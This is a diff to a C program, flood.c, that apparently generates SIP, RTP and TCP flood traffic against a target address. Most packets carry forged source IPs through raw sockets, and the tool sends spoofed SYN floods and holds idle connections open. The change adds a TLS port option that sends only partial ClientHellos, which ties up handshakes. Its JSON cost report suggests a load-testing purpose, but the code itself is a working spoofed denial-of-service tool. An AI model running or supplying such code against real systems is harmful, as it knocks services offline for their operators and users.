@@ -2,14 +2,15 @@
  *
  *   gcc -O2 -o flood flood.c
  *
- *   flood [-t secs] [-s sip/s] [-r rtp/s] [-c connections/s] [-m first-last] ADDRESS:PORT OWN/BITS FORGED/BITS
+ *   flood [-t secs] [-s sip/s] [-r rtp/s] [-c connections/s] [-l port] [-m first-last] ADDRESS:PORT OWN/BITS FORGED/BITS
  *
  * SIP datagrams are by turns an INVITE with SDP, a REGISTER and noise. A third
  * of them comes from ten addresses of OWN, a third from a thousand of FORGED, a
  * third from any of FORGED. RTP comes from any of FORGED to any even port of the
  * range. Of the connections one half is a SYN from FORGED that nothing follows,
  * the other half is opened from OWN and says nothing; they are closed when there
- * are 8,000 of them, the oldest first.
+ * are 8,000 of them, the oldest first. With -l every other of both goes to this
+ * port of TLS, where one that is open says the beginning of a ClientHello.
  *
  * Needs CAP_NET_RAW, and all of OWN as local addresses. At the end it says as
  * JSON what it has sent and what that has cost.
@@ -38,7 +39,7 @@
 #define STEP_NS 1000000L
 
 static uint32_t to, own, own_mask, forged, forged_mask;
-static uint16_t to_port, first_port = 10000, last_port = 19999;
+static uint16_t to_port, tls_port, first_port = 10000, last_port = 19999;
 static uint64_t seed = 0x9E3779B97F4A7C15u;
 static volatile sig_atomic_t ends;
 
@@ -49,8 +50,11 @@ static struct mmsghdr messages[BATCH];
 static struct sockaddr_in target;
 static int filled;
 
-static int open_fds[OPEN], open_at;
-static uint64_t sent_sip, sent_rtp, sent_syn, sent_connect, failed_connect, lost;
+static int open_fds[OPEN], open_at, begun_tls = -1;
+
+/* A record of 512 octets with a ClientHello, of which these come. */
+static const uint8_t hello[] = { 22, 3, 1, 2, 0, 1, 0, 1, 252, 3, 3 };
+static uint64_t sent_sip, sent_rtp, sent_syn, sent_connect, sent_hello, failed_connect, lost;
 
 static uint32_t any(void)
 {
@@ -151,11 +155,16 @@ static uint16_t checksum(uint32_t source, const struct tcphdr *tcp)
     return htons((uint16_t)~(sum + (sum >> 16)));
 }
 
+static uint16_t port_of(uint64_t turn)
+{
+    return tls_port && (turn & 1) ? tls_port : to_port;
+}
+
 static void syn(void)
 {
     uint32_t source = of(forged, forged_mask, any());
     struct tcphdr *tcp = (struct tcphdr *)(octets[filled] + sizeof(struct iphdr));
-    *tcp = (struct tcphdr){ .source = htons(1024 + any() % 60000), .dest = htons(to_port), .seq = any(), .doff = 5, .syn = 1, .window = htons(65535) };
+    *tcp = (struct tcphdr){ .source = htons(1024 + any() % 60000), .dest = htons(port_of(sent_syn)), .seq = any(), .doff = 5, .syn = 1, .window = htons(65535) };
     tcp->check = checksum(source, tcp);
     sent_syn++;
     head(IPPROTO_TCP, source, sizeof(struct iphdr) + sizeof *tcp);
@@ -169,7 +178,8 @@ static void silent(void)
     if (fd < 0) { failed_connect++; return; }
     setsockopt(fd, SOL_SOCKET, SO_LINGER, &linger, sizeof linger);
     struct sockaddr_in there = target;
-    there.sin_port = htons(to_port);
+    uint16_t port = port_of(sent_connect);
+    there.sin_port = htons(port);
     if (bind(fd, (struct sockaddr *)&from, sizeof from) < 0 || (connect(fd, (struct sockaddr *)&there, sizeof there) < 0 && errno != EINPROGRESS)) {
         failed_connect++;
         close(fd);
@@ -179,6 +189,9 @@ static void silent(void)
     if (open_fds[open_at]) close(open_fds[open_at]);
     open_fds[open_at] = fd;
     open_at = (open_at + 1) % OPEN;
+    /* The last one stands by now; this one does not yet. */
+    if (begun_tls >= 0 && send(begun_tls, hello, sizeof hello, MSG_NOSIGNAL) == sizeof hello) sent_hello++;
+    begun_tls = port == tls_port ? fd : -1;
 }
 
 static double now(void)
@@ -194,16 +207,17 @@ int main(int argc, char **argv)
 {
     double seconds = 10, sips = 30000, rtps = 20000, connections = 1000;
     int option;
-    while ((option = getopt(argc, argv, "t:s:r:c:m:")) != -1) {
+    while ((option = getopt(argc, argv, "t:s:r:c:l:m:")) != -1) {
         if (option == 't') seconds = atof(optarg);
         else if (option == 's') sips = atof(optarg);
         else if (option == 'r') rtps = atof(optarg);
         else if (option == 'c') connections = atof(optarg);
+        else if (option == 'l') tls_port = (uint16_t)atoi(optarg);
         else if (option == 'm' && sscanf(optarg, "%hu-%hu", &first_port, &last_port) == 2) continue;
         else return 2;
     }
     char *colon = argc - optind == 3 ? strchr(argv[optind], ':') : NULL;
-    if (!colon) { fprintf(stderr, "flood [-t secs] [-s sip/s] [-r rtp/s] [-c connections/s] [-m first-last] ADDRESS:PORT OWN/BITS FORGED/BITS\n"); return 2; }
+    if (!colon) { fprintf(stderr, "flood [-t secs] [-s sip/s] [-r rtp/s] [-c connections/s] [-l port] [-m first-last] ADDRESS:PORT OWN/BITS FORGED/BITS\n"); return 2; }
     *colon = 0;
     to = ntohl(inet_addr(argv[optind]));
     to_port = (uint16_t)atoi(colon + 1);
@@ -233,8 +247,8 @@ int main(int argc, char **argv)
     }
     struct rusage used;
     getrusage(RUSAGE_SELF, &used);
-    printf("{\"seconds\": %.2f, \"sip\": %lu, \"rtp\": %lu, \"syn\": %lu, \"connected\": %lu, \"not_connected\": %lu, \"not_sent\": %lu, \"cpu\": %.2f}\n",
-        passed, sent_sip, sent_rtp, sent_syn, sent_connect, failed_connect, lost,
+    printf("{\"seconds\": %.2f, \"sip\": %lu, \"rtp\": %lu, \"syn\": %lu, \"connected\": %lu, \"hellos\": %lu, \"not_connected\": %lu, \"not_sent\": %lu, \"cpu\": %.2f}\n",
+        passed, sent_sip, sent_rtp, sent_syn, sent_connect, sent_hello, failed_connect, lost,
         used.ru_utime.tv_sec + used.ru_stime.tv_sec + (used.ru_utime.tv_usec + used.ru_stime.tv_usec) / 1e6);
     return 0;
 }
